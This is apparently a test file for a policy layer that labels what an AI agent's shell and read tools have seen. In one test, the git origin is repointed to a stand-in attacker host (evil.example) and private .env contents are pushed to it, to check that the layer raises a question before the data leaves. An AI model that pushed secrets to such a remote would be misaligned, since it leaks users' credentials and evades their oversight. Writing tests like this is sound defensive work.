/** Files that commands were shown decide like what tools read; a remote is named as long as its name means the same place. */
import { execFileSync } from "node:child_process";
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import type { PolicyRule } from "@toolplane/contract";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { hasSandbox } from "../has-sandbox.ts";
import { type FlowWorld, openFlowWorld, type Played } from "./flow-world.ts";

let world: FlowWorld;
beforeAll(async () => {
  world = await openFlowWorld({
    ".env": "KEY=swordfish\n",
    "README.md": "# Read me\n",
    "build.sh": "true\n",
  });
  git("init", "-q", "-b", "main");
  git("add", "README.md");
  git("-c", "user.name=n", "-c", "user.email=n@example.com", "commit", "-qm", "first");
  git("remote", "add", "origin", "http://git.example/ours.git");
});
afterAll(() => world.close());

function git(...words: string[]): void {
  execFileSync("git", words, { cwd: world.workspace, env: { PATH: process.env.PATH } });
}

async function labelsAfter(command: string, rules: readonly PolicyRule[] = []): Promise<unknown> {
  const { session, call } = world.open({ rules });
  const result = await call("bash", { command }, "once");
  expect(result.type === "error" ? result.error_text : "").toBe("");
  return session.labels().map(({ label, source }) => [label, source.replace(/^.*\//, "")]);
}

describe.skipIf(!hasSandbox)("what a command was shown (needs bubblewrap)", () => {
  it("labels it: by its operands where it only reads", async () => {
    expect(await labelsAfter("cat .env")).toEqual([["private", ".env"]]);
    expect(await labelsAfter("cat README.md")).toEqual([]);
    expect(await labelsAfter("grep -r swordfish .")).toEqual([["private", ".env"]]);
  });

  it("labels it by everything that it could have read where nobody knows", async () => {
    expect(await labelsAfter("sh build.sh")).toEqual([["private", ".env"]]);
  });

  it("is not what a rule closes: the file is not there", async () => {
    const closed = { permission: "fs.read", pattern: "**/.env", action: "deny" } as const;
    expect(await labelsAfter("sh build.sh", [closed])).toEqual([]);
  });

  it("is kept of a command that was stopped, for what it had printed", async () => {
    // A busy machine may take longer to start it than it is given: then it is given more, and stopped all the same.
    let given = 750;
    const labelled = async (): Promise<readonly string[]> => {
      given *= 2;
      const { session, call } = world.open();
      const command = { command: "cat .env; sleep 600", timeout_ms: given };
      expect((await call("bash", command, "once")).type).toBe("error");
      return session.labels().map(({ label }) => label);
    };
    await expect.poll(labelled).toEqual(["private"]);
  });
});

describe.skipIf(!hasSandbox)("a push (needs bubblewrap)", () => {
  const seen = async (): Promise<Played> => {
    const played = world.open();
    await played.call("read", { path: ".env" }, "once");
    await played.call("old_notes", {}, "once");
    return played;
  };

  it.each(["git push origin main", "git -C . push origin main", "git -c a.b=c push"])(
    "asks where it goes after both labels: %s",
    async (command) => {
      const played = await seen();
      await played.call("bash", { command });
      expect(played.flowQuestions()).toHaveLength(1);
    },
  );

  it("is named by the remote's name as long as that means the same place", async () => {
    const played = await seen();
    await played.session.said("Commit it and push to origin, please.");
    await played.call("bash", { command: "git push origin main" });
    expect(played.flowQuestions()).toEqual([]);
    expect(world.arrived.join("\n")).toContain("git.example GET /ours.git/info/refs");
    git("remote", "set-url", "origin", "http://evil.example/theirs.git");
    await played.call("bash", { command: "git push origin main" });
    expect(played.flowQuestions()).toHaveLength(1);
    git("remote", "set-url", "origin", "http://git.example/ours.git");
  });
});

describe("several sources of one call", () => {
  it("are endorsed one by one", async () => {
    writeFileSync(join(world.outside, "one.txt"), "words\n");
    writeFileSync(join(world.outside, "two.txt"), "words\n");
    const { session, call } = world.open();
    await call("grep", { pattern: "words", path: world.outside }, "once");
    const [first, ...others] = session.labels().filter(({ label }) => label === "untrusted");
    expect(others.length).toBeGreaterThan(0);
    await session.endorse(first?.source ?? "");
    expect(session.labels().some(({ label }) => label === "untrusted")).toBe(true);
  });
});
